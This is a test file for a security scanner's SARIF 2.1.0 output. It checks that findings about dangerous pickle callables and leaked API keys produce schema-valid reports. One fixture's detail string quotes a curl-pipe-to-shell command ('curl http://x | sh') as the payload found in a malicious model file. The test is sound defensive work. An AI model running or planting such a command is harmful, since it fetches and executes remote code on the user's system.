import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { Ajv } from "ajv";
import addFormats from "ajv-formats";
import fc from "fast-check";
import { loadSarifSchema } from "../../test/helpers/sarif-schema.js";
import type { Finding } from "../core/index.js";
import { toSarif } from "./index.js";

const ajv = new Ajv({ strict: false, allErrors: true });
(addFormats as unknown as (a: Ajv) => void)(ajv);
const validate = ajv.compile(loadSarifSchema());

function aFinding(overrides: Partial<Finding> = {}): Finding {
  return {
    ruleId: "pickle.dangerous-callable",
    severity: "critical",
    title: "os.system in pickle",
    detail: 'os.system("curl http://x | sh") at offset 42',
    references: ["https://docs.python.org/3/library/pickle.html"],
    owasp: ["LLM03:2025"],
    atlas: ["AML.T0010"],
    location: { path: "models/evil.pt", line: 1 },
    ...overrides,
  };
}

describe("SARIF 2.1.0", () => {
  it("validates against the official schema, with rules, levels and GitHub security severity", () => {
    const log = toSarif({
      toolVersion: "0.1.0",
      findings: [
        aFinding(),
        aFinding({
          ruleId: "secrets.openai-api-key",
          severity: "high",
          location: { path: "/abs/.env", line: 3, column: 9 },
        }),
        aFinding({ location: undefined, severity: "low" }),
      ],
      reasons: [{ ruleId: "pickle.dangerous-callable", decision: "deny", message: "m", waivedBy: "exception x" }],
    });
    assert.ok(validate(log), JSON.stringify(validate.errors?.slice(0, 3)));
    const run = log.runs[0];
    assert.equal(run?.tool.driver.rules?.length, 2);
    assert.deepEqual(
      run?.results?.map((r) => r.level),
      ["error", "error", "note"],
    );
    assert.equal(run?.tool.driver.rules?.[0]?.properties?.["security-severity"], "9.5");
    assert.equal(run?.results?.[1]?.locations?.[0]?.physicalLocation?.artifactLocation?.uri, "file:///abs/.env");
  });

  it("is schema-valid for any findings (property)", () => {
    const finding = fc.record({
      ruleId: fc.stringMatching(/^[a-z][a-z0-9.-]{0,20}$/),
      severity: fc.constantFrom("critical", "high", "medium", "low", "info"),
      title: fc.string({ minLength: 1, maxLength: 40 }),
      detail: fc.string({ maxLength: 40 }),
      references: fc.array(fc.webUrl(), { maxLength: 2 }),
      owasp: fc.constant<Finding["owasp"]>([]),
      atlas: fc.constant<string[]>([]),
      location: fc.option(
        fc.record({
          path: fc.string({ minLength: 1, maxLength: 30 }),
          line: fc.option(fc.integer({ min: 1, max: 1e6 }), { nil: undefined }),
        }),
        { nil: undefined },
      ),
    });
    fc.assert(
      fc.property(fc.array(finding, { maxLength: 8 }), (findings) => {
        assert.ok(validate(toSarif({ toolVersion: "1", findings })), JSON.stringify(validate.errors?.slice(0, 2)));
      }),
      { numRuns: 200 },
    );
  });
});
